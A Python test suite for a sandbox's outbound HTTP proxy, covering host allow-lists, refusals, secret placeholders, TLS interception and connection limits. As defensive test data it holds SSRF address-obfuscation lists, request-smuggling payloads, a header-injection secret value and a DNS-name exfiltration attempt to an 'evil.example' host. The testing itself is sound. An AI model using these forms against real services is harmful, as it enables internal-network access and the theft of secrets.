"""The way out of a sandbox: what is allowed gets through whole, nothing else gets anywhere."""

from __future__ import annotations

import asyncio
import base64
import socket
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h11
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reverie.domain.clock import system_clock
from reverie.environments import destinations
from reverie.environments.destinations import Destination, Refused, matches
from reverie.environments.egress import Allowance, Egress
from reverie.environments.interception import Authority
from reverie.environments.placeholders import Placeholders
from reverie.plugins import Injected, Network, SandboxSpec


@dataclass
class Canary:
    """A server on loopback that keeps what it is sent, and says what it is told to."""

    port: int = 0
    heads: list[bytes] = field(default_factory=list[bytes])
    bodies: list[bytes] = field(default_factory=list[bytes])
    connections: int = 0


@asynccontextmanager
async def canary(
    answer: Callable[[h11.Request, bytes], bytes] | None = None, tls: Any = None
) -> AsyncIterator[Canary]:
    seen = Canary()
    tasks: set[asyncio.Task[None]] = set()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        tasks.add(task)
        seen.connections += 1
        with suppress(OSError, h11.RemoteProtocolError):
            http = h11.Connection(h11.SERVER)
            request: h11.Request | None = None
            body = b""
            while True:
                event = http.next_event()
                if event is h11.NEED_DATA:
                    if http.they_are_waiting_for_100_continue and request is not None:
                        writer.write(b"HTTP/1.1 100 Continue\r\n\r\n")
                    http.receive_data(await reader.read(65536))
                elif isinstance(event, h11.Request):
                    request = event
                elif isinstance(event, h11.Data):
                    body += event.data
                elif isinstance(event, h11.EndOfMessage):
                    break
                else:
                    return
            assert request is not None
            head = b"\r\n".join(b"%s: %s" % pair for pair in request.headers)
            seen.heads.append(request.method + b" " + request.target + b"\r\n" + head + b"\r\n")
            seen.bodies.append(body)
            said = answer(request, body) if answer else b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok"
            writer.write(said)
            await writer.drain()

    async def answered(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await serve(reader, writer)
        finally:
            writer.close()
            with suppress(OSError):
                await writer.wait_closed()

    server = await asyncio.start_server(answered, "127.0.0.1", 0, ssl=tls, backlog=1024)
    seen.port = server.sockets[0].getsockname()[1]
    try:
        yield seen
    finally:
        server.close()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def all_here(host: str, port: int) -> Sequence[str]:
    """A resolver in whose world every name is loopback; literals are what the system makes of them."""
    loop = asyncio.get_running_loop()
    try:
        found = await loop.getaddrinfo(host, port, type=socket.SOCK_STREAM, flags=socket.AI_NUMERICHOST)
    except OSError:
        return ["127.0.0.1"]
    return [str(address[0]) for *_, address in found]


class Way:
    """An opened egress, and a client of it."""

    def __init__(self, made: Egress, port: int, told: list[tuple[str, str]]) -> None:
        self.egress = made
        self.port = port
        self.told = told

    async def connected(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection("127.0.0.1", self.port)

    async def say(self, data: bytes, most_s: float = 10) -> bytes:
        """What comes back until the other side closes."""
        reader, writer = await self.connected()
        with suppress(OSError):
            writer.write(data)
            await writer.drain()
        answer = b""
        with suppress(ConnectionError):
            answer = await asyncio.wait_for(reader.read(), most_s)
        writer.close()
        return answer

    async def get(self, url: str, headers: str = "", body: bytes = b"", method: str = "GET") -> bytes:
        host = url.split("/")[2] if "://" in url else "x"
        size = f"content-length: {len(body)}\r\n" if body else ""
        head = f"{method} {url} HTTP/1.1\r\nHost: {host}\r\n{size}{headers}\r\n"
        return await self.say(head.encode() + body)

    async def connect(self, authority: str) -> bytes:
        reader, writer = await self.connected()
        writer.write(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        answer = b""
        with suppress(ConnectionError, asyncio.IncompleteReadError):
            answer = await reader.readuntil(b"\r\n")
        writer.close()
        return answer


@asynccontextmanager
async def way(
    hosts: Sequence[str] = (), *, everything: bool = False, secrets: Sequence[Injected] = (), **options: Any
) -> AsyncIterator[Way]:
    told: list[tuple[str, str]] = []
    spec = SandboxSpec(
        id="sesn_1",
        mounts=(),
        network=Network(hosts, everything),
        secrets=secrets,
        refused=lambda host, reason: told.append((host, reason)),
    )
    made = Egress(spec, **{"resolve": all_here, **options})
    listener = socket.create_server(("127.0.0.1", 0))
    async with made.at(listener):
        yield Way(made, listener.getsockname()[1], told)
    await made.aclose()


def run(work: Callable[[], Awaitable[Any]]) -> Any:
    async def main() -> Any:
        async with asyncio.timeout(30):  # a test that hangs says where
            return await work()

    return asyncio.run(main())


# ------------------------------------------------------------------ what is allowed


def test_an_allowed_host_is_reached_by_plain_http_under_its_own_name_only() -> None:
    async def work() -> None:
        async with canary() as server, way(["api.example"], own=["api.example"]) as out:
            url = f"http://api.example:{server.port}/a?b=c#d"
            answer = await out.get(url, "Proxy-Connection: keep-alive\r\nX-A: 1\r\n")
            assert answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"\r\n\r\nok")
            head = server.heads[0].lower()
            assert head.startswith(b"get /a?b=c\r\n")
            assert f"host: api.example:{server.port}\r\n".encode() in head and b"x-a: 1" in head
            assert b"proxy-connection" not in head
            # A request whose Host says otherwise goes to the host that was looked at, under its name.
            await out.say(
                f"GET http://api.example:{server.port}/ HTTP/1.1\r\nHost: other.example\r\n\r\n".encode()
            )
            assert b"other.example" not in server.heads[1]
            assert out.told == [] and out.egress.counts.refused == 0

    run(work)


def test_a_tunnel_passes_bytes_both_ways_and_knows_half_an_end() -> None:
    async def work() -> None:
        async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            everything = await reader.read()  # until the client has said all
            writer.write(everything[::-1])
            await writer.drain()
            writer.close()

        server = await asyncio.start_server(echo, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        async with server, way(["a.example"], own=["a.example"]) as out:
            reader, writer = await out.connected()
            # What is sent ahead of the answer is not lost.
            writer.write(f"CONNECT a.example:{port} HTTP/1.1\r\nHost: x\r\n\r\nearly".encode())
            assert await reader.readuntil(b"\r\n\r\n") == b"HTTP/1.1 200 Connection established\r\n\r\n"
            writer.write(b"-" * 300_000)
            writer.write_eof()
            assert await reader.read() == b"-" * 300_000 + b"ylrae"
            writer.close()
            assert out.egress.counts.bytes == 2 * 300_005

    run(work)


@pytest.mark.parametrize("framing", ["length", "chunked", "expect"])
def test_a_body_arrives_whole_however_it_is_framed(framing: str) -> None:
    body = bytes(range(256)) * 1_000
    head = {
        "length": f"content-length: {len(body)}",
        "chunked": "transfer-encoding: chunked",
        "expect": f"content-length: {len(body)}\r\nExpect: 100-continue",
    }[framing]
    sent = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) if framing == "chunked" else body

    async def work() -> None:
        async with canary() as server, way(["a.example"], own=["a.example"]) as out:
            reader, writer = await out.connected()
            url = f"http://a.example:{server.port}/"
            writer.write(f"POST {url} HTTP/1.1\r\nHost: a.example\r\n{head}\r\n\r\n".encode())
            if framing == "expect":
                assert await reader.readuntil(b"\r\n\r\n") == b"HTTP/1.1 100 Continue\r\n\r\n"
            writer.write(sent)
            assert (await reader.read()).endswith(b"ok")
            assert server.bodies == [body]
            writer.close()

    run(work)


def test_a_redirect_is_the_clients_to_follow_and_is_looked_at_again() -> None:
    def away(request: h11.Request, body: bytes) -> bytes:
        return b"HTTP/1.1 302 Found\r\nlocation: http://127.0.0.1:1/\r\ncontent-length: 0\r\n\r\n"

    async def work() -> None:
        async with (
            canary(away) as server,
            canary() as other,
            way(["a.example"], own=["a.example"]) as out,
        ):
            answer = await out.get(f"http://a.example:{server.port}/")
            assert b"302" in answer and b"location: http://127.0.0.1:1/" in answer
            assert (await out.get(f"http://127.0.0.1:{other.port}/")).startswith(b"HTTP/1.1 403")
            assert other.connections == 0

    run(work)


@pytest.mark.parametrize(
    ("host", "patterns", "fits"),
    [
        ("example.org", ["example.org"], True),
        ("example.org", ["EXAMPLE.org."], True),
        ("a.example.org", ["example.org"], False),
        ("a.example.org", ["*.example.org"], True),
        ("a.b.example.org", ["*.example.org"], True),
        ("example.org", ["*.example.org"], False),
        ("badexample.org", ["*.example.org"], False),
        ("example.org.evil.example", ["example.org", "*.example.org"], False),
        ("anything.example", ["*", "*.", ""], False),
        ("a.org", ["*.*.org", "a.*"], False),
    ],
)
def test_what_a_list_of_hosts_allows(host: str, patterns: list[str], fits: bool) -> None:
    assert matches(host, patterns) is fits


# ------------------------------------------------------------------ what is refused


def test_a_refusal_says_what_to_do_and_is_told() -> None:
    async def work() -> None:
        async with canary() as server, way(["a.example"]) as out:
            for answer in (
                await out.get(f"http://b.example:{server.port}/"),
                await out.connect("b.example:443"),
            ):
                assert answer.startswith(b"HTTP/1.1 403 not in networking.allowed_hosts\r\n")
            body = (await out.get("http://b.example/")).decode()
            assert "b.example" in body and "Add b.example to networking.allowed_hosts" in body
            assert out.told == [("b.example", "not in networking.allowed_hosts")]  # once a command
            assert out.egress.counts.refused == 3 and server.connections == 0

    run(work)


def words(text: str) -> list[str]:
    return [word for line in text.splitlines() for word in line.split(" ") if word]


PRIVATE = words("""
0.0.0.0 0.0.0.1 10.0.0.1 100.64.0.1 100.100.100.200 127.0.0.1 127.0.0.2 127.255.255.254 169.254.169.254
169.254.170.2 172.16.0.1 192.0.0.8 192.0.0.192 192.0.2.1 192.88.99.1 192.168.0.1 198.18.0.1 198.51.100.1
203.0.113.1 224.0.0.1 239.255.255.255 240.0.0.1 255.255.255.255 [::] [::1] [::127.0.0.1] [::ffff:127.0.0.1]
[::ffff:169.254.169.254] [::ffff:7f00:1] [::ffff:0:127.0.0.1] [64:ff9b::7f00:1] [64:ff9b::a9fe:a9fe]
[64:ff9b:1::a00:1] [100::1] [2001::1] [2001:0:7f00:1::] [2001:db8::1] [2002:7f00:1::] [2002:a9fe:a9fe::]
[3fff::1] [5f00::1] [fc00::1] [fd00:ec2::254] [fe80::1] [fec0::1] [ff02::1] [2a00:1450::5efe:7f00:1]
""")
ODD = words("""
127.1 127.0.1 2130706433 0x7f000001 0x7f.1 0x7f.0x0.0x0.0x1 0177.0.0.1 017700000001 0177.1 0 0x0 00 1
0xa9fea9fe 2852039166 169.254.43518 0251.0376.0251.0376 0xA9.0xFE.0xA9.0xFE 10.1 3232235521 0xC0A80001
127.0.0.1. 127.0.0.1.. 127.0.0.01 0x7f000001. 127.0.0.1.0x 1.2.3.4.5 ①②⑦.⓪.⓪.① １２７.０.０.１ 127。0。0。1
127%2e0%2e0%2e1 %31%32%37.0.0.1 localhost LOCALHOST localhost. sub.localhost ip6-localhost
user@127.0.0.1 127.0.0.1@a.example a.example@127.0.0.1 user:pw@a.example a.example#@127.0.0.1
[::1%lo] [fe80::1%25eth0] [::1 ::1 [127.0.0.1] [] [:::1] [0:0:0:0:0:0:0:0:1] a..example .a.example -a.example
a.example\x00.b.example a.example%00.b.example a.example\t a.example\\@127.0.0.1 a/example a?example *.example
""")
FORMS = [*PRIVATE, *ODD]


def test_no_form_of_an_address_leads_to_the_canary() -> None:
    """Every form, by CONNECT and by a whole URL, with every public host allowed and a resolver that sends
    each name to loopback."""
    assert len(set(FORMS)) >= 80

    async def work() -> None:
        async with canary() as server, way(everything=True) as out:
            for form in FORMS:
                for port in (server.port, 80):
                    said = await out.connect(f"{form}:{port}")
                    assert said[:12] in (b"HTTP/1.1 400", b"HTTP/1.1 403"), (form, said)
                    said = await out.get(f"http://{form}:{port}/")
                    assert said[:12] in (b"HTTP/1.1 400", b"HTTP/1.1 403"), (form, said)
            assert server.connections == 0

    run(work)


def test_the_canary_would_sing() -> None:
    """The control for the test above: the same forms, through a gate that does not look at addresses."""

    async def work() -> None:
        async with canary() as server, way(everything=True, own=["127.0.0.0/8"]) as out:
            for form in FORMS:
                await out.connect(f"{form}:{server.port}")
            assert server.connections >= 5

    run(work)


def resolver_that_turns() -> tuple[destinations.Resolve, list[str]]:
    """Says an address that is allowed, where nobody listens; and when it is asked again, the canary's."""
    asked: list[str] = []

    async def turning(host: str, port: int) -> Sequence[str]:
        asked.append(host)
        return ["127.0.0.9"] if len(asked) == 1 else ["127.0.0.1"]

    return turning, asked


def test_a_name_is_resolved_once_and_pinned() -> None:
    resolve, asked = resolver_that_turns()

    async def work() -> None:
        async with canary() as server:
            async with way(["r.example"], resolve=resolve, own=["127.0.0.9"]) as out:
                url = f"http://r.example:{server.port}/"
                assert (await out.get(url)).startswith(b"HTTP/1.1 502") and asked == ["r.example"]
                assert (await out.get(url)).startswith(b"HTTP/1.1 403")
            assert server.connections == 0

    run(work)


def test_a_proxy_that_checks_and_resolves_again_is_caught(monkeypatch: pytest.MonkeyPatch) -> None:
    """The control for the test above."""
    resolve, _ = resolver_that_turns()
    looked = destinations.Gate.addresses

    async def leaky(gate: destinations.Gate, to: Destination) -> Any:
        await looked(gate, to)
        return await resolve(to.host, to.port)

    monkeypatch.setattr(destinations.Gate, "addresses", leaky)

    async def work() -> None:
        async with canary() as server, way(["r.example"], resolve=resolve, own=["127.0.0.9"]) as out:
            await out.get(f"http://r.example:{server.port}/")
            assert server.connections == 1

    run(work)


def test_one_private_address_among_public_ones_is_a_refusal() -> None:
    async def mixed(host: str, port: int) -> Sequence[str]:
        return ["93.184.215.14", "10.0.0.7"]

    async def work() -> None:
        async with way(["m.example"], resolve=mixed) as out:
            assert await out.connect("m.example:443") == b"HTTP/1.1 403 its address is not a public one\r\n"
            assert "10.0.0.7" not in str(out.told)  # what is inside stays unsaid

    run(work)


@pytest.mark.parametrize("port", [22, 25, 8443, 0, 65_536, 99_999])
def test_only_the_webs_ports_are_connected_to(port: int) -> None:
    async def public(host: str, port: int) -> Sequence[str]:
        return ["93.184.215.14"]

    async def work() -> None:
        async with way(["p.example"], resolve=public) as out:
            assert (await out.connect(f"p.example:{port}"))[9:12] in (b"400", b"403")

    run(work)


def test_a_host_that_is_not_allowed_is_not_asked_for_either() -> None:
    """Names of hosts carry secrets out as well as bodies do."""

    async def never(host: str, port: int) -> Sequence[str]:
        raise AssertionError(host)

    async def work() -> None:
        async with way(["a.example"], resolve=never) as out:
            assert (await out.connect("c2VjcmV0.evil.example:443")).startswith(b"HTTP/1.1 403")

    run(work)


@settings(max_examples=300)
@given(st.text(max_size=40))
def test_a_host_has_one_spelling_or_none(text: str) -> None:
    try:
        found = Destination.read(text, 80)
    except Refused as refused:
        assert refused.status == 400 and refused.host.isascii() and "\n" not in refused.host
    else:
        assert Destination.read(found.authority) == found
        assert found.host.isascii() and found.host == found.host.lower() and "@" not in found.host


def test_addresses_of_ones_own_are_named_by_whoever_runs_the_server(monkeypatch: pytest.MonkeyPatch) -> None:
    """And must be allowed by the environment besides."""
    monkeypatch.setenv("REVERIE_ALLOW_ADDRESSES", "mirror.example, 127.0.0.9 ,")

    async def work() -> None:
        async with canary() as server, way(["mirror.example", "other.example"]) as out:
            assert (await out.get(f"http://mirror.example:{server.port}/")).endswith(b"ok")
            assert (await out.get(f"http://other.example:{server.port}/")).startswith(b"HTTP/1.1 403")
        async with canary() as server, way(["other.example"]) as out:
            assert (await out.get(f"http://mirror.example:{server.port}/")).startswith(b"HTTP/1.1 403")

    run(work)


# ------------------------------------------------------------------ peers who mean no good


@pytest.mark.parametrize(
    "head",
    [
        b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"GET https://a.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"GET ftp://a.example/ HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"CONNECT a.example HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"CONNECT http://a.example:443 HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"GET http://a.example/ HTTP/1.1\r\n\r\n",
        b"GET http://a.exa\x00mple/ HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET http://a.example/ HTTP/1.1\r\nHost: a\r\nX: \x00\r\n\r\n",
        b"GET http://a.example/ HTTP/1.1\r\nHost : a\r\n\r\n",
        b"GET  http://a.example/ HTTP/1.1\r\nHost: a\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
        b"\x05\x01\x00\r\n\r\n",
        b"GET http://a.example/ HTTP/1.1\r\nX: " + b"a" * 200_000 + b"\r\n\r\n",
        b"POST http://a.example/ HTTP/1.1\r\nHost: a\r\ncontent-length: 1\r\ncontent-length: 2\r\n\r\nab",
        b"POST http://a.example/ HTTP/1.1\r\nHost: a\r\ncontent-length: -1\r\n\r\n",
        b"POST http://a.example/ HTTP/1.1\r\nHost: a\r\ntransfer-encoding: gzip, chunked\r\n\r\n",
    ],
)
def test_what_is_no_request_to_a_proxy_is_answered_and_goes_nowhere(head: bytes) -> None:
    async def never(host: str, port: int) -> Sequence[str]:
        raise AssertionError(host)

    async def work() -> None:
        async with way(["a.example"], resolve=never) as out:
            answer = await out.say(head)
            assert answer[9:12] in (b"400", b"501"), answer
            assert len(out.told) == 1

    run(work)


def test_a_second_request_behind_the_first_is_not_taken_for_one_of_the_same_host() -> None:
    """Smuggling: both in one packet, and both lengths given."""

    async def work() -> None:
        async with canary() as server, way(["a.example"], own=["a.example"]) as out:
            first = f"GET http://a.example:{server.port}/1 HTTP/1.1\r\nHost: a\r\n"
            await out.say(f"{first}\r\nGET /2 HTTP/1.1\r\nHost: b\r\n\r\n".encode())
            smuggled = "0\r\n\r\nGET /3 HTTP/1.1\r\nHost: b\r\n\r\n"
            both = f"content-length: {len(smuggled)}\r\ntransfer-encoding: chunked\r\n\r\n"
            await out.say((first.replace("GET", "POST") + both + smuggled).encode())
            assert [head.split(b"\r\n")[0] for head in server.heads] == [b"GET /1", b"POST /1"]
            assert server.bodies == [b"", b""]

    run(work)


def test_who_says_nothing_is_cut() -> None:
    async def work() -> None:
        limits = Allowance(head_s=0.05, idle_s=0.05)
        async with canary() as server, way(["a.example"], own=["a.example"], allowance=limits) as out:
            assert (await out.say(b"")).startswith(b"HTTP/1.1 408")
            assert (await out.say(b"GET http://a.exam")).startswith(b"HTTP/1.1 408")
            authority = f"a.example:{server.port}"
            answer = await out.say(f"CONNECT {authority} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            assert answer.startswith(b"HTTP/1.1 200")  # and then it was closed

    run(work)


def test_who_does_not_read_is_cut_and_holds_no_heap() -> None:
    async def work() -> None:
        async def flood(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            with suppress(OSError):
                while True:
                    writer.write(b"x" * 65_536)
                    await writer.drain()

        server = await asyncio.start_server(flood, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        limits = Allowance(idle_s=0.2)
        async with way(["a.example"], own=["a.example"], allowance=limits) as out:
            reader, writer = await out.connected()
            writer.write(f"CONNECT a.example:{port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            await reader.readuntil(b"\r\n\r\n")
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            while out.egress._live:
                await asyncio.sleep(0.01)
            assert out.egress.counts.bytes < 32 << 20  # what the kernel's buffers hold, and no more
            writer.close()
        server.close()

    run(work)


def test_more_connections_than_allowed_are_turned_away_and_the_others_go_on() -> None:
    async def work() -> None:
        limits = Allowance(connections=4)
        async with canary() as server, way(["a.example"], own=["a.example"], allowance=limits) as out:
            idle = [await out.connected() for _ in range(4)]
            while len(out.egress._live) < 4:
                await asyncio.sleep(0)
            url = f"http://a.example:{server.port}/"
            assert (await out.get(url)).startswith(b"HTTP/1.1 503")
            for _, writer in idle:
                writer.close()
            while out.egress._live:
                await asyncio.sleep(0)
            assert (await out.get(url)).endswith(b"ok")

    run(work)


def test_a_flood_of_connections_costs_no_descriptors_and_one_word() -> None:
    async def work() -> None:
        limits = Allowance(connections=4)
        async with canary() as server, way(["a.example"], own=["a.example"], allowance=limits) as out:
            before = len(list(Path("/proc/self/fd").iterdir()))
            flood = [await out.connected() for _ in range(100)]
            while out.egress.counts.refused < 96:
                await asyncio.sleep(0.001)
            assert len(list(Path("/proc/self/fd").iterdir())) <= before + 100 + 8
            assert out.told == [("", "too many connections at a time")]
            for _, writer in flood:
                writer.transport.abort()
            while out.egress._live:
                await asyncio.sleep(0.001)
            assert (await out.get(f"http://a.example:{server.port}/")).endswith(b"ok")

    run(work)


@pytest.mark.parametrize("said", [b"", b"SSH-2.0-OpenSSH\r\n", b"HTTP/1.1 200 OK\r\nx: " + b"a" * 99_999])
def test_a_host_that_does_not_answer_in_http_is_said_so(said: bytes) -> None:
    async def work() -> None:
        async with canary(lambda *_: said) as server, way(["a.example"], own=["a.example"]) as out:
            answer = await out.get(f"http://a.example:{server.port}/")
            assert answer.startswith(b"HTTP/1.1 502 the host broke off")

    run(work)


def test_a_host_that_says_nothing_is_said_so() -> None:
    async def work() -> None:
        server = await asyncio.start_server(lambda _, writer: kept.append(writer), "127.0.0.1", 0)
        kept: list[asyncio.StreamWriter] = []
        port = server.sockets[0].getsockname()[1]
        async with way(["a.example"], own=["a.example"], allowance=Allowance(idle_s=0.1)) as out:
            answer = await out.get(f"http://a.example:{port}/")
            assert answer.startswith(b"HTTP/1.1 504 nothing was said for 0.1 s")
        for writer in kept:
            writer.close()
        server.close()

    run(work)


def test_many_at_once() -> None:
    async def work() -> None:
        limits = Allowance(connections=200)
        async with canary() as server, way(["a.example"], own=["a.example"], allowance=limits) as out:
            url = f"http://a.example:{server.port}/"
            answers = await asyncio.gather(*(out.get(url) for _ in range(150)))
            assert all(answer.endswith(b"ok") for answer in answers)
            assert server.connections == 150 and out.egress.counts.connections == 150

    run(work)


def test_the_traffic_of_a_sandbox_ends_when_it_is_used_up() -> None:
    def much(request: h11.Request, body: bytes) -> bytes:
        return b"HTTP/1.1 200 OK\r\n\r\n" + b"x" * 2_000_000

    async def work() -> None:
        limits = Allowance(bytes=500_000)
        async with canary(much) as server, way(["a.example"], own=["a.example"], allowance=limits) as out:
            url = f"http://a.example:{server.port}/"
            assert len(await out.get(url)) < 700_000
            assert (await out.get(url)).startswith(b"HTTP/1.1 429")
            assert server.connections == 1 and {host for host, _ in out.told} == {"a.example", ""}

    run(work)


def test_a_cut_server_is_a_cut_client_and_nothing_stays() -> None:
    def half(request: h11.Request, body: bytes) -> bytes:
        return b"HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\nhalf"

    async def work() -> None:
        async with canary(half) as server, way(["a.example"], own=["a.example"]) as out:
            answer = await out.get(f"http://a.example:{server.port}/")
            assert b"content-length: 100" in answer and answer.endswith(b"half")
            while out.egress._live:
                await asyncio.sleep(0)

    run(work)


def test_when_a_command_has_ended_its_connections_have() -> None:
    async def work() -> None:
        spec = SandboxSpec(id="sesn_1", mounts=(), network=Network(["a.example"]))
        made = Egress(spec, own=["a.example"], resolve=all_here)
        listener = socket.create_server(("127.0.0.1", 0))
        out = Way(made, listener.getsockname()[1], [])
        async with canary() as server:
            async with made.at(listener):
                reader, writer = await out.connected()
                writer.write(f"CONNECT a.example:{server.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                await reader.readuntil(b"\r\n\r\n")
            assert await reader.read() == b"" and not made._live
            writer.close()
            with pytest.raises(OSError):
                await out.connected()

    run(work)


# ------------------------------------------------------------------ secrets

SECRET = "sk-live-0123456789abcdef"


def said_back(request: h11.Request, body: bytes) -> bytes:
    """An answer that repeats what came, in its headers and in a body of two chunks."""
    heads = b"\n".join(value for _, value in request.headers)
    text = heads + b"\n" + body
    cut = text.find(b"sk-live") + 9
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in (text[:cut], text[cut:]) if part)
    named = dict(request.headers).get(b"x-key", b"")
    return (
        b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\nx-echo: "
        + named
        + b"\r\n\r\n"
        + chunks
        + b"0\r\n\r\n"
    )


def test_a_sandbox_holds_a_placeholder_that_lasts_and_is_its_own() -> None:
    secret = Injected("API_KEY", SECRET)
    spec = SandboxSpec(id="sesn_1", mounts=(), network=Network(["a.example"]), secrets=[secret])
    made, again = Egress(spec), Egress(spec)
    placeholder = made.spec.variables["API_KEY"]
    assert placeholder == again.spec.variables["API_KEY"] and SECRET not in str(made.spec.variables)
    assert placeholder != Placeholders("sesn_2", [secret]).variables["API_KEY"]
    assert SECRET not in repr(made.spec)  # specs end up in logs
    for one in (made, again):
        asyncio.run(one.aclose())


def test_a_secret_goes_to_the_hosts_it_is_for_and_comes_back_to_nobody() -> None:
    secret = Injected("API_KEY", SECRET, hosts=["api.example"], header=True)

    async def work() -> None:
        own = ["api.example", "b.example"]
        async with canary(said_back) as server, way(own, own=own, secrets=[secret]) as out:
            placeholder = out.egress.spec.variables["API_KEY"]
            basic = base64.b64encode(f"user:{placeholder}".encode()).decode()
            headers = f"Authorization: Basic {basic}\r\nX-Key: {placeholder}\r\n"
            body = placeholder.encode()
            url = f"http://api.example:{server.port}/?{placeholder}"
            answer = await out.get(url, headers, body, "POST")
            assert f"x-key: {SECRET}".encode() in server.heads[0].lower()
            assert base64.b64encode(f"user:{SECRET}".encode()) in server.heads[0]
            assert server.bodies == [body]  # a body only where the credential says so; a URL never
            assert placeholder.encode() in server.heads[0].split(b"\r\n")[0]
            assert SECRET.encode() not in answer and answer.count(placeholder.encode()) == 3
            await out.get(f"http://b.example:{server.port}/", headers)
            assert SECRET.encode() not in server.heads[1] and placeholder.encode() in server.heads[1]

    run(work)


def test_a_secret_that_would_be_a_header_of_its_own_goes_nowhere() -> None:
    secret = Injected("API_KEY", "a\r\nx-admin: 1")

    async def work() -> None:
        async with canary() as server, way(["a.example"], own=["a.example"], secrets=[secret]) as out:
            headers = f"X-Key: {out.egress.spec.variables['API_KEY']}\r\n"
            answer = await out.get(f"http://a.example:{server.port}/", headers)
            assert answer.startswith(b"HTTP/1.1 400 the value of a secret") and server.heads == []

    run(work)


def test_a_secret_goes_into_a_body_where_it_may() -> None:
    secret = Injected("API_KEY", SECRET, header=False, body=True)

    async def work() -> None:
        async with canary() as server, way(["a.example"], own=["a.example"], secrets=[secret]) as out:
            placeholder = out.egress.spec.variables["API_KEY"].encode()
            url = f"http://a.example:{server.port}/"
            await out.get(url, f"X-Key: {placeholder.decode()}\r\n", b"key=" + placeholder, "POST")
            assert server.bodies == [b"key=" + SECRET.encode()] and SECRET.encode() not in server.heads[0]
            chunked = b"transfer-encoding: chunked\r\n\r\n4\r\nkey=\r\n%x\r\n%s\r\n0\r\n\r\n"
            head = f"POST {url} HTTP/1.1\r\nHost: a\r\n".encode()
            await out.say(head + chunked % (len(placeholder), placeholder))
            assert server.bodies[1] == b"key=" + SECRET.encode()
            long = await out.say(head + b"content-length: 9000000\r\n\r\n" + b"x" * 9_000_000)
            assert long.startswith(b"HTTP/1.1 413") and len(server.heads) == 2

    run(work)


@asynccontextmanager
async def trusted_host(name: str) -> AsyncIterator[tuple[Canary, ssl.SSLContext]]:
    """A host that speaks TLS under its name, and what it takes to trust it."""
    authority = Authority(system_clock)
    trust = ssl.create_default_context(cafile=str(authority.mount("/x").folder / authority.file_name))
    async with canary(said_back, authority.speaking_for(name)) as server:
        yield server, trust
    authority.remove()


async def over_tls(out: Way, authority: str, host: str, trust: str, request: bytes) -> bytes:
    reader, writer = await out.connected()
    writer.write(f"CONNECT {authority} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
    try:
        await writer.start_tls(ssl.create_default_context(cafile=trust), server_hostname=host)
        writer.write(request)
        return await reader.read()
    finally:
        writer.transport.abort()


def test_tls_to_a_host_with_a_secret_is_read_and_all_other_passes_unread() -> None:
    secret = Injected("API_KEY", SECRET, hosts=["api.example"])
    names = ["api.example", "b.example"]

    async def work() -> None:
        async with (
            trusted_host("api.example") as (server, trust),
            trusted_host("b.example") as (other, _),
            way(names, own=names, secrets=[secret], trust=trust) as out,
        ):
            [mount] = out.egress.spec.mounts
            assert not mount.writable and out.egress.spec.variables["SSL_CERT_FILE"].startswith(mount.inside)
            bundle = str(mount.folder / Authority.file_name)
            placeholder = out.egress.spec.variables["API_KEY"].encode()
            request = b"GET /a HTTP/1.1\r\nHost: other.example\r\nx-key: " + placeholder + b"\r\n\r\n"
            to = f"api.example:{server.port}"
            answer = await over_tls(out, to, "api.example", bundle, request)
            assert SECRET.encode() in server.heads[0] and to.encode() in server.heads[0]
            assert SECRET.encode() not in answer and placeholder in answer
            with pytest.raises(ssl.SSLCertVerificationError):  # the host's own certificate: nobody is between
                await over_tls(out, f"b.example:{other.port}", "b.example", bundle, request)
            assert other.heads == []

    run(work)


def test_a_real_host_whose_certificate_is_not_good_is_given_no_secret() -> None:
    secret = Injected("API_KEY", SECRET)

    async def work() -> None:
        async with (
            trusted_host("else.example") as (server, trust),
            way(["api.example"], own=["api.example"], secrets=[secret], trust=trust) as out,
        ):
            bundle = str(out.egress.spec.mounts[0].folder / Authority.file_name)
            placeholder = out.egress.spec.variables["API_KEY"].encode()
            request = b"GET /a HTTP/1.1\r\nHost: x\r\nx-key: " + placeholder + b"\r\n\r\n"
            answer = await over_tls(out, f"api.example:{server.port}", "api.example", bundle, request)
            assert answer.startswith(b"HTTP/1.1 502 TLS failed") and server.heads == []

    run(work)


def test_a_program_that_does_not_trust_the_sandboxs_authority_is_told_of() -> None:
    async def work() -> None:
        async with trusted_host("api.example") as (server, trust):
            bundle = str(Path(ssl.get_default_verify_paths().openssl_cafile))
            secret = Injected("API_KEY", SECRET)
            async with way(["api.example"], own=["api.example"], secrets=[secret], trust=trust) as out:
                with pytest.raises((ssl.SSLError, FileNotFoundError)):
                    await over_tls(out, f"api.example:{server.port}", "api.example", bundle, b"")
                while out.egress._live:
                    await asyncio.sleep(0.01)
